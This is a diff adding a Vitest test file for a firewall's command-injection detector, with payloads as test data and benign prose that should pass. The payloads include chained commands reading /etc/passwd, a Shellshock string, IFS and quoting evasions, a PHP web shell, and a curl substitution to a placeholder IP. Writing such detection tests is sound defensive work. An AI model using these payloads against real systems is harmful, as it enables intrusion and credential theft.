@@ -1,0 +1,66 @@
+import { describe, expect, it } from 'vitest';
+
+import { detectCommand } from '../../../src/validation/waf/command.js';
+import type { DetectContext } from '../../../src/validation/waf/types.js';
+
+const level1: DetectContext = { paranoia: 1, strict: false };
+const ids = (input: string, context: DetectContext = level1): string[] =>
+  detectCommand(input, context).map((hit) => hit.ruleId);
+
+describe('detectCommand', () => {
+  it.each([
+    ['; id', 'command-003-chained-command'],
+    ['a|id|', 'command-003-chained-command'],
+    ['x && cat /etc/passwd', 'command-003-chained-command'],
+    ['& ping -n 30 127.0.0.1 &', 'command-003-chained-command'],
+    ['| net user hacker Password1 /ADD', 'command-003-chained-command'],
+    ['foo\nwhoami', 'command-003-chained-command'],
+    ['`id`', 'command-004-substitution'],
+    ['$(curl http://198.51.100.7/x)', 'command-004-substitution'],
+    ['() { :;}; /bin/bash -c "id"', 'command-001-shellshock'],
+    ['cat${IFS}/etc/passwd', 'command-002-ifs'],
+    ['cat /etc/passwd', 'command-005-command-line'],
+    ['C:\\Windows\\System32\\cmd.exe /c dir', 'command-005-command-line'],
+    ["system('id')", 'command-011-code-execution'],
+    ['<?php system($_GET["c"]); ?>', 'command-011-code-execution'],
+  ])('detects %j at paranoia 1', (input, ruleId) => {
+    expect(ids(input)).toContain(ruleId);
+  });
+
+  it('undoes quoting tricks in the command name', () => {
+    expect(ids(";c'a't /etc/passwd")).toContain('command-003-chained-command');
+    expect(ids(';w\\hoami')).toContain('command-003-chained-command');
+  });
+
+  it('gives every hit the command family', () => {
+    for (const hit of detectCommand('; id', level1)) expect(hit.family).toBe('command');
+  });
+
+  it.each([
+    'rm -rf is dangerous, do not paste it in a terminal',
+    "Ben & Jerry's",
+    'The cat sat on the mat; the dog ate the homework.',
+    'Update: the order was shipped; see tracking below.',
+    'if (a && b) { return c; }',
+    'Use the -v flag for verbose output, e.g. tool -v --dry-run',
+    'Markdown: **bold**, _italic_, `code`, [link](https://example.com)',
+    'Sleep well and wake up refreshed',
+    'Exec summary attached',
+    'I bought milk; cat food is next',
+  ])('passes prose %j at paranoia 1', (input) => {
+    expect(ids(input)).toEqual([]);
+  });
+
+  it('reports a command word after an operator in prose only at paranoia 2', () => {
+    expect(ids('I bought milk; cat food is next', { paranoia: 2, strict: false })).toContain(
+      'command-006-lone-command',
+    );
+  });
+
+  it('rejects any metacharacter in a field tagged as a shell argument', () => {
+    expect(ids('report; final', { paranoia: 1, strict: true })).toContain(
+      'command-010-sink-metacharacter',
+    );
+    expect(ids('report-final.txt', { paranoia: 1, strict: true })).toEqual([]);
+  });
+});
